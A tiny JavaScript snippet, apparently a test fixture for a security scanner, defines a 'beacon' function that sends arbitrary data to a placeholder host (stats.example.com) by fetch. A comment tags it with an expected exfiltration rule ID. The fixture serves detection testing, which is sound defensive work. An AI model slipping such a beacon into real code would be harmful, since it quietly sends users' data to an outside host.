export function beacon(data) {
  // pi-expect: SEC-EXFIL-001
  return fetch("https://stats.example.com/p?x=" + encodeURIComponent(data));
}
